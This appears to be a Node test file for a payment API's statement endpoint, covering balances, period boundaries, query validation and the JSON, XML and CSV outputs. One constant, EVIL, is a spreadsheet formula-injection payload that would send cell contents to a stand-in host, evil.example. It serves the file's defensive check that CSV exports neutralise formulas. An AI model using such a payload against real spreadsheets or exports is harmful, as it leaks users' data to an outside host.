// A statement: opening balance, what changed, closing balance; as JSON, XML and CSV.
import assert from 'node:assert/strict'
import { before, test } from 'node:test'
import { readCsv } from '../fixtures/read-csv.ts'
import { readXml } from '../fixtures/read-xml.ts'
import {
  type Client,
  checkoutBody,
  clientOf,
  type Json,
  ownServer,
  reaches,
  wire,
} from '../running-server.ts'

const SANDBOX = 'application/vnd.svc.sandbox.v1+json'
const EVIL = `=HYPERLINK("http://evil.example?"&A1;"x"),\r\n\tñ`
const server = ownServer()
let key = ''
let client: Client
let live: Client

before(async () => {
  key = server.demo.other_store.private_key
  client = clientOf(server, { key })
  live = clientOf(server, { key, accept: 'application/json' })
  const created = await client('POST', '/checkout', checkoutBody(EVIL, 10_000))
  const { id } = created.body
  await client('POST', `/sandbox/checkouts/${id}/complete`, {})
  await reaches(client, id, '')
  assert.equal((await client('POST', `/orders/${id}/captures`, { amount: 9_000 })).status, 200)
  assert.equal((await client('POST', `/orders/${id}/refund`, { amount: 2_000 })).status, 200)
  assert.equal((await client('POST', '/me/payouts')).status, 201)
})

const day = (days: number) => new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10)
/** Wide enough for every time zone. */
const period = () => `from=${day(-1)}&to=${day(1)}`

test('a statement opens, sums up by type, and closes', async () => {
  const { body, status } = await client('GET', `/me/statement?${period()}`)
  assert.equal(status, 200)
  assert.deepEqual(body.totals, [
    { type: 'capture', count: 1, amount: 9_000, net: 9_000 },
    { type: 'payout', count: 1, amount: 7_000, net: -7_000 },
    { type: 'refund', count: 1, amount: 2_000, net: -2_000 },
  ])
  const { currency, time_zone: zone, opening_balance: opening, closing_balance: closing } = body
  assert.deepEqual([currency, zone, opening, closing], ['EUR', 'Europe/Madrid', 0, 0])
  assert.deepEqual([body.count, body.net], [3, 0])
  assert.match(body.from, new RegExp(`^${day(-1)}T00:00:00.000000\\+0[12]:00$`))
  assert.match(body.to, new RegExp(`^${day(2)}T00:00:00.000000\\+0[12]:00$`))
  const lines = await client('GET', body.payments_url.slice(server.demo.base_url.length))
  assert.deepEqual([lines.status, lines.body.paging.count], [200, 3])
})

test('periods that meet at a moment share nothing and leave nothing out', async () => {
  const { body } = await client('GET', '/me/payments?type=refund')
  const at = encodeURIComponent(body.results[0].created)
  const before = (await client('GET', `/me/statement?from=${day(-1)}&to=${at}`)).body
  const next = (await client('GET', `/me/statement?from=${at}&to=${day(1)}`)).body
  assert.deepEqual([before.closing_balance, before.count], [9_000, 1])
  assert.deepEqual([next.opening_balance, next.closing_balance, next.count], [9_000, 0, 2])
  const empty = (await client('GET', `/me/statement?from=${at}&to=${at}`)).body
  assert.deepEqual([empty.opening_balance, empty.closing_balance, empty.count], [9_000, 9_000, 0])
  const future = (await client('GET', `/me/statement?from=${day(30)}&to=${day(60)}`)).body
  assert.deepEqual([future.opening_balance, future.closing_balance, future.totals], [0, 0, []])
})

test('XML has the same content', async () => {
  const accept = { accept: 'application/vnd.svc.sandbox.v1+xml' }
  const { text, status } = await client('GET', `/me/statement?${period()}`, undefined, accept)
  assert.equal(status, 200)
  assert.equal(readXml(text).root, 'response')
  assert.match(text, /<type>payout<\/type><count>1<\/count><amount>7000<\/amount><net>-7000<\/net>/)
})

test('in CSV every line has its balance, and no name becomes a formula', async () => {
  const { text, status, headers } = await client('GET', `/me/statement.csv?${period()}`)
  assert.equal(status, 200)
  assert.equal(headers.get('content-type'), 'text/csv; charset=utf-8')
  assert.equal(
    headers.get('content-disposition'),
    `attachment; filename="statement-${day(-1)}-${day(1)}-EUR.csv"`,
  )
  assert.equal(headers.get('vary'), 'Accept')
  const [names, ...rows] = readCsv(text)
  assert.deepEqual(names?.slice(6), ['amount', 'net', 'balance'])
  const money = rows.map((row) => [row[1], row[6], row[7], row[8]])
  assert.deepEqual(money, [
    ['opening', '', '', '0.00'],
    ['capture', '90.00', '90.00', '90.00'],
    ['refund', '20.00', '-20.00', '70.00'],
    ['payout', '70.00', '-70.00', '0.00'],
    ['closing', '', '', '0.00'],
  ])
  assert.deepEqual(
    rows.map((row) => row[4]),
    ['', `'${EVIL}`, `'${EVIL}`, '', ''],
  )
  assert.match(text, /,"'=HYPERLINK\(""http/)
})

test('the path selects CSV, Accept the mode and nothing else', async () => {
  const path = `/me/statement.csv?${period()}`
  const ofLive = await live('GET', path)
  assert.equal(readCsv(ofLive.text).length, 3, 'a header, opening and closing')
  const both = await client('GET', path, undefined, { accept: `text/csv, ${SANDBOX};q=0.5` })
  assert.equal(readCsv(both.text).length, 6)
  const alone = await client('GET', path, undefined, { accept: 'text/csv' })
  assert.deepEqual([alone.status, alone.body.error.code], [406, 'accept_unsupported'])
  const xml = 'application/vnd.svc.sandbox.v1+xml'
  const asXml = await client('GET', path, undefined, { accept: xml })
  assert.equal(asXml.headers.get('content-type'), 'text/csv; charset=utf-8')
  const refused = await client('GET', '/me/statement.csv', undefined, { accept: xml })
  assert.deepEqual([refused.status, readXml(refused.text).root], [400, 'error'])
  const headers = { authorization: `Bearer ${key}`, accept: SANDBOX }
  const head = await wire(server, { method: 'HEAD', path, headers })
  assert.deepEqual([head.status, head.text], [200, ''])
  assert.equal(head.headers['content-type'], 'text/csv; charset=utf-8')
})

const refused: readonly (readonly [query: string, ...names: string[]])[] = [
  ['', 'from', 'to'],
  ['from=2026-01-01', 'to'],
  ['to=2026-01-01', 'from'],
  ['from=&to=', 'from', 'to'],
  ['from=2026-02-30&to=2026-13-01', 'from', 'to'],
  ['from=yesterday&to=2026-01-01&currency=eur', 'currency', 'from'],
  ['from=2026-01-01&from=2026-01-02&to=2026-01-03', 'from'],
  ['from=2026-01-02&to=2026-01-01', 'to'],
  ['from=2026-01-01T00:00:00Z&to=2025-12-31T23:59:59Z', 'to'],
  ['from=2026-01-01&to=2027-01-02', 'to'],
  ['from=2026-01-01&to=9999-12-31', 'to'],
  ['from=2026-01-01&to=2026-01-02&currency=XXX', 'currency'],
  ['from=2026-01-01&to=2026-01-02&currency=EUR&currency=USD', 'currency'],
  ['from=2026-01-01&to=2026-01-02&format=csv&__proto__=x', '__proto__', 'format'],
]
for (const [query, ...names] of refused) {
  test(`a statement with ${query || 'nothing'} is refused: ${names.join(' and ')}`, async () => {
    for (const path of ['/me/statement', '/me/statement.csv']) {
      const { status, body } = await client('GET', `${path}?${query}`)
      assert.deepEqual([status, body.error.code], [400, 'query_invalid'])
      assert.deepEqual(Object.keys(body.error.fields).sort(), names)
    }
  })
}

const taken: readonly (readonly [query: string, from: string, to: string])[] = [
  [
    'from=2026-03-29&to=2026-03-29',
    '2026-03-29T00:00:00.000000+01:00',
    '2026-03-30T00:00:00.000000+02:00',
  ],
  [
    'from=2026-01-01&to=2026-12-31',
    '2026-01-01T00:00:00.000000+01:00',
    '2027-01-01T00:00:00.000000+01:00',
  ],
  [
    'from=2027-06-01&to=2028-05-31',
    '2027-06-01T00:00:00.000000+02:00',
    '2028-06-01T00:00:00.000000+02:00',
  ],
  [
    'from=2026-07-01T10:00:00&to=2026-07-01T08:30:00Z',
    '2026-07-01T10:00:00.000000+02:00',
    '2026-07-01T10:30:00.000000+02:00',
  ],
  [
    'from=2026-07-01T10:00:00+02:00&to=2026-07-02',
    '2026-07-01T10:00:00.000000+02:00',
    '2026-07-03T00:00:00.000000+02:00',
  ],
]
for (const [query, from, to] of taken) {
  test(`a statement with ${query} is from ${from} to ${to}`, async () => {
    const { status, body } = await client('GET', `/me/statement?${query}`)
    assert.equal(status, 200)
    assert.deepEqual([body.from, body.to], [from, to])
  })
}

test('nothing is shown of another currency, store or mode', async () => {
  const statements: Json[] = [
    (await client('GET', `/me/statement?${period()}&currency=USD`)).body,
    (await live('GET', `/me/statement?${period()}`)).body,
  ]
  for (const { opening_balance: opening, closing_balance: closing, count } of statements) {
    assert.deepEqual([opening, closing, count], [0, 0, 0])
  }
})
